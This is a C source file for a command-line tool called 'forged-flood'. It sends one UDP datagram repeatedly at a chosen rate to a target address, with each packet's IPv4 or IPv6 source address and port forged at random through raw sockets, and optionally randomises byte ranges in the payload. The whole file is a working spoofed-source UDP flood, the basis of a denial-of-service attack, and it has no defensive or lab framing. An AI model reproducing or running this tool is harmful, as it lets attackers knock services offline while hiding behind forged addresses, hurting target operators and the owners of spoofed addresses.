/*
 * Sends one UDP datagram again and again from sources that it makes up, at a steady rate.
 *
 *     forged-flood ADDRESS PORT RATE SECONDS OFFSET:LENGTH,… < DATAGRAM
 *
 * Each datagram goes out behind an IP header of its own (IP_HDRINCL, IPV6_HDRINCL): its source is a random address (IPv4: 16.0.0.0 to 111.255.255.255,
 * IPv6: 2a00::/16) and a random port, and the bytes at each OFFSET of it are random. UDP over IPv6 gets its checksum, over IPv4 it has none.
 * ADDRESS "-" prints RATE datagrams, without IP and UDP headers, as hexadecimal lines instead. Prints how many were sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef IPV6_HDRINCL
#define IPV6_HDRINCL 36
#endif

enum { BATCH = 64, MAX_DATAGRAM = 1400, MAX_RANGES = 8, UDP_BYTES = 8, IP4_BYTES = 20, IP6_BYTES = 40, PROTOCOL_UDP = 17 };

struct range {
  size_t offset, length;
};

static unsigned char packets[BATCH][IP6_BYTES + UDP_BYTES + MAX_DATAGRAM];
static struct range ranges[MAX_RANGES];
static int range_count;
static uint64_t state;

static void fail(const char *what) {
  fprintf(stderr, "forged-flood: %s: %s\n", what, strerror(errno));
  exit(1);
}

/* xorshift64*: nobody has to guess it, it has only to be different each time. */
static uint64_t next(void) {
  state ^= state >> 12;
  state ^= state << 25;
  state ^= state >> 27;
  return state * 0x2545f4914f6cdd1d;
}

static void scramble(unsigned char *bytes, size_t length) {
  for (size_t i = 0; i < length; i++) bytes[i] = (unsigned char)(next() >> 32);
}

static uint16_t checksum6(const unsigned char *packet, size_t udp_length) {
  uint32_t sum = PROTOCOL_UDP + (uint32_t)udp_length;
  const unsigned char *bytes = packet + 8;
  const size_t length = 32 + udp_length;
  for (size_t i = 0; i + 1 < length; i += 2) sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
  if (length % 2 == 1) sum += (uint32_t)bytes[length - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return sum == 0xffff ? 0xffff : (uint16_t)~sum;
}

static void put16(unsigned char *at, size_t value) {
  at[0] = (unsigned char)(value >> 8);
  at[1] = (unsigned char)value;
}

/* Everything but what changes from one to the next. */
static void prepare(unsigned char *packet, int is6, const void *to, const char *port, const unsigned char *datagram, size_t length) {
  unsigned char *udp = packet + (is6 ? IP6_BYTES : IP4_BYTES);
  if (is6) {
    packet[0] = 0x60;
    put16(packet + 4, UDP_BYTES + length);
    packet[6] = PROTOCOL_UDP;
    packet[7] = 64;
    memcpy(packet + 24, to, 16);
  } else {
    packet[0] = 0x45;
    put16(packet + 2, IP4_BYTES + UDP_BYTES + length);
    packet[8] = 64;
    packet[9] = PROTOCOL_UDP;
    memcpy(packet + 16, to, 4);
  }
  put16(udp + 2, (size_t)atoi(port));
  put16(udp + 4, UDP_BYTES + length);
  memcpy(udp + UDP_BYTES, datagram, length);
}

static void forge(unsigned char *packet, int is6, size_t length) {
  unsigned char *udp = packet + (is6 ? IP6_BYTES : IP4_BYTES);
  const uint64_t draw = next();
  if (is6) {
    packet[8] = 0x2a;
    packet[9] = 0;
    scramble(packet + 10, 14);
  } else {
    scramble(packet + 12, 4);
    packet[12] = (unsigned char)(16 + (draw >> 40) % 96);
  }
  put16(udp, 1024 + (draw & 0x7fff));
  for (int i = 0; i < range_count; i++) scramble(udp + UDP_BYTES + ranges[i].offset, ranges[i].length);
  if (!is6) return;
  put16(udp + 6, 0);
  put16(udp + 6, checksum6(packet, UDP_BYTES + length));
}

static double now_s(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + 1e-9 * (double)time.tv_nsec;
}

static void parse_ranges(const char *text, size_t length) {
  for (const char *at = text; *at != '\0' && range_count < MAX_RANGES; range_count++) {
    struct range *range = &ranges[range_count];
    int used = 0;
    if (sscanf(at, "%zu:%zu%n", &range->offset, &range->length, &used) != 2 || range->offset + range->length > length) {
      fprintf(stderr, "forged-flood: no range of a datagram of %zu bytes: %s\n", length, at);
      exit(2);
    }
    at += used;
    if (*at == ',') at++;
  }
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "usage: forged-flood ADDRESS PORT RATE SECONDS OFFSET:LENGTH,... < DATAGRAM\n");
    return 2;
  }
  unsigned char datagram[MAX_DATAGRAM];
  const ssize_t length = read(STDIN_FILENO, datagram, sizeof datagram);
  if (length <= 0) fail("no datagram");
  parse_ranges(argv[5], (size_t)length);
  struct timespec seed;
  clock_gettime(CLOCK_REALTIME, &seed);
  state = (uint64_t)seed.tv_nsec << 32 ^ (uint64_t)seed.tv_sec ^ (uint64_t)getpid() << 20 ^ 1;
  const double rate = atof(argv[3]);

  if (strcmp(argv[1], "-") == 0) {
    unsigned char to[16] = {0};
    prepare(packets[0], 0, to, argv[2], datagram, (size_t)length);
    for (int i = 0; i < (int)rate; i++) {
      forge(packets[0], 0, (size_t)length);
      for (ssize_t b = 0; b < length; b++) printf("%02x", packets[0][IP4_BYTES + UDP_BYTES + b]);
      printf("\n");
    }
    return 0;
  }

  const int is6 = strchr(argv[1], ':') != NULL;
  struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
  struct sockaddr_in to4 = {.sin_family = AF_INET};
  void *address = is6 ? (void *)&to6.sin6_addr : (void *)&to4.sin_addr;
  if (inet_pton(is6 ? AF_INET6 : AF_INET, argv[1], address) != 1) fail(argv[1]);
  const int fd = socket(is6 ? AF_INET6 : AF_INET, SOCK_RAW, IPPROTO_RAW);
  const int on = 1;
  if (fd < 0 || setsockopt(fd, is6 ? IPPROTO_IPV6 : IPPROTO_IP, is6 ? IPV6_HDRINCL : IP_HDRINCL, &on, sizeof on) != 0) fail("raw socket");

  static struct iovec parts[BATCH];
  static struct mmsghdr batch[BATCH];
  for (int i = 0; i < BATCH; i++) {
    prepare(packets[i], is6, address, argv[2], datagram, (size_t)length);
    parts[i] = (struct iovec){.iov_base = packets[i], .iov_len = (size_t)length + UDP_BYTES + (is6 ? IP6_BYTES : IP4_BYTES)};
    batch[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    batch[i].msg_hdr.msg_name = is6 ? (void *)&to6 : (void *)&to4;
    batch[i].msg_hdr.msg_namelen = is6 ? sizeof to6 : sizeof to4;
  }

  unsigned long long sent = 0;
  const double start_s = now_s();
  const double end_s = start_s + atof(argv[4]);
  for (double now = start_s; now < end_s; now = now_s()) {
    const double due = (now - start_s) * rate - (double)sent;
    if (due < 1) {
      usleep(500);
      continue;
    }
    const int wanted = due > BATCH ? BATCH : (int)due;
    for (int i = 0; i < wanted; i++) forge(packets[i], is6, (size_t)length);
    const int count = sendmmsg(fd, batch, (unsigned)wanted, 0);
    if (count < 0 && errno != ENOBUFS && errno != EAGAIN) fail("sendmmsg");
    if (count > 0) sent += (unsigned long long)count;
  }
  printf("%llu\n", sent);
  return 0;
}
